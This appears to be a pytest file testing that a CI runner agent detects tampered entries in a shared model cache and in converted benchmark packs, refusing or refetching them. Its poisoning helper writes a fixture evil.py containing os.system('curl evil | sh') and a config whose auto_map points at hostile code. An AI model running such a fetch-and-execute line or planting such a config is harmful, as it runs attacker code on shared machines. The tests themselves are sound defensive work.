"""Finding 2 (issue 11), the cache: every ephemeral runner mounts one shared model cache, so a job that changes a
cached snapshot would change what every later job loads. The agent records each file's hash when it fetches a
snapshot and checks them on every reuse: a poisoned entry is refused offline and replaced by a clean copy online."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.paths import REPO
from tests.runner_agent.helpers import FakeHfHub
from tests.runner_agent.test_models import REPO_ID, _files, _job


def _fetch(job: Path, cache: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "TUNEBOT_", "MODELSCOPE_"))}
    return subprocess.run([sys.executable, "-m", "runner_agent.cli", "fetch", "--job", str(job), "--cache", str(cache),
                           "--hub", "huggingface", *extra], cwd=REPO, env=env, capture_output=True, text=True,
                          timeout=180, check=False)


def _poison(snapshot: Path, how: str) -> None:
    if how == "same-size weights":  # the attacker's weights, byte count unchanged
        weights = snapshot / "model.safetensors"
        weights.write_bytes(bytes(weights.stat().st_size))
    elif how == "changed config":
        (snapshot / "config.json").write_text('{"model_type": "qwen2", "auto_map": {"AutoConfig": "evil.C"}}',
                                              encoding="utf-8")
    elif how == "added code":  # a file a model's auto_map would import
        (snapshot / "evil.py").write_text("import os; os.system('curl evil | sh')\n", encoding="utf-8")


@pytest.mark.parametrize("how", ["same-size weights", "changed config", "added code"])
def test_a_poisoned_cache_entry_is_detected_on_reuse(tmp_path: Path, how: str) -> None:
    files = _files(tmp_path)
    cache = tmp_path / "cache"
    job = _job(tmp_path)
    with FakeHfHub(REPO_ID, files) as hub:
        first = _fetch(job, cache, "--endpoint", hub.url)
        assert first.returncode == 0, first.stderr
        snapshot = Path(first.stdout.strip().split(" -> ")[-1])
        # Reuse of an intact entry works offline (the positive control).
        assert _fetch(job, cache, "--offline").returncode == 0

        _poison(snapshot, how)
        offline = _fetch(job, cache, "--offline")
        assert offline.returncode == 1
        assert "was changed after it was fetched" in offline.stderr and "refusing to use it" in offline.stderr

        # Online, the changed snapshot is set aside and a clean copy fetched in its place.
        hub.reset_log()
        online = _fetch(job, cache, "--endpoint", hub.url)
        assert online.returncode == 0, online.stderr
        assert hub.log.requests, "a clean copy must have been fetched"
        for name in ("model.safetensors", "config.json"):
            assert (snapshot / name).read_bytes() == files[name].read_bytes()
        assert not (snapshot / "evil.py").exists()
        assert list(snapshot.parent.glob(f"{snapshot.name}.changed-*")), "the changed copy is kept for inspection"
        assert _fetch(job, cache, "--offline").returncode == 0


def _bench_copy(tmp_path: Path) -> Path:
    import shutil

    from configs import BENCH_DATA_DIR

    root = tmp_path / "benchmarks"
    shutil.copytree(BENCH_DATA_DIR, root)
    return root


def test_a_poisoned_converted_pack_is_rewritten_from_its_sources(tmp_path: Path) -> None:
    from runner_agent import packs

    root, cache = _bench_copy(tmp_path), tmp_path / "packs"
    first = packs.convert(root, "cmmlu", cache)
    converted = [first.path / "test.jsonl"]
    clean = converted[0].read_text(encoding="utf-8")
    # Another job flips the answers of the cached conversion every later evaluation reads.
    converted[0].write_text(clean.replace('"answer": "(B)"', '"answer": "(C)"'), encoding="utf-8")
    assert converted[0].read_text(encoding="utf-8") != clean
    again = packs.convert(root, "cmmlu", cache)
    assert again.path == first.path and converted[0].read_text(encoding="utf-8") == clean
    assert list(cache.glob(f"{first.path.name}.changed-*")), "the changed copy is kept for inspection"


def test_pack_sources_that_differ_from_the_jobs_content_hash_are_refused(tmp_path: Path) -> None:
    from commands.packs import pack_content_hash, subject_files
    from runner_agent import packs
    from runner_agent.errors import AgentError
    from runner_agent.report import sha256_file

    root = _bench_copy(tmp_path)
    subjects = ("agronomy",)
    files = [rel for s in subjects for rel in subject_files("cmmlu", s)]
    expected = pack_content_hash("cmmlu", {rel: sha256_file(root / rel) for rel in files})
    packs.verify_pack_content("cmmlu", root, subjects, expected)  # the bot's copy and the runner's agree
    test_file = root / files[-1]
    test_file.write_text(test_file.read_text(encoding="utf-8").replace(",A\n", ",B\n"), encoding="utf-8")
    with pytest.raises(AgentError, match=r"hash to .* but the job was planned for"):
        packs.verify_pack_content("cmmlu", root, subjects, expected)
